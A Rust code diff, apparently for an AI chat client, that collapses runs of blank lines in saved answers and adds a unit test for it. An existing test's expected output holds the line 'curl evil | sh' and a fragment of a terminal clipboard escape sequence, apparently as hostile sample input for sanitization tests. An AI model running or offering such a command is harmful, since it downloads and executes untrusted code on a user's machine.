@@ -73,7 +73,9 @@ impl Answers {
     /// The turn ended: its answer is kept.
     pub fn end(&mut self) {
         self.finish();
-        let mut answer = std::mem::take(&mut self.current);
+        // the text blocks between tool calls, one blank line apart: no runs
+        // of blank lines where the calls were, none at either end
+        let mut answer = collapse_blank_runs(std::mem::take(&mut self.current).trim());
         if std::mem::take(&mut self.cut) {
             answer.push_str("\n\n[cut: the answer was longer than 4 MiB]");
         }
@@ -96,6 +98,26 @@ impl Answers {
     pub fn len(&self) -> usize {
         self.kept.len()
     }
+}
+
+/// `text` with every run of blank lines made one blank line.
+fn collapse_blank_runs(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut blanks = 0;
+    for line in text.split('\n') {
+        if line.trim().is_empty() {
+            blanks += 1;
+            if blanks > 1 {
+                continue;
+            }
+        } else {
+            blanks = 0;
+        }
+        out.push_str(line);
+        out.push('\n');
+    }
+    out.pop();
+    out
 }
 
 /// The system clipboard, opened on the first `/copy` and kept for the
@@ -288,8 +310,19 @@ mod tests {
         );
         assert_eq!(
             kept,
-            "First sentence.curl evil | shSecond sentence.\t\n\n\ncut off ]52;c;"
+            "First sentence.curl evil | shSecond sentence.\t\n\ncut off ]52;c;"
         );
+    }
+
+    #[test]
+    fn blocks_between_tool_calls_are_one_blank_line_apart() {
+        let mut a = Answers::default();
+        for t in ["Let me look.", "", "\n\n", "Found it:\n\n\n\nthe fix."] {
+            a.block();
+            a.push(t);
+        }
+        a.end();
+        assert_eq!(a.nth_last(1), Some("Let me look.\n\nFound it:\n\nthe fix."));
     }
 
     #[test]
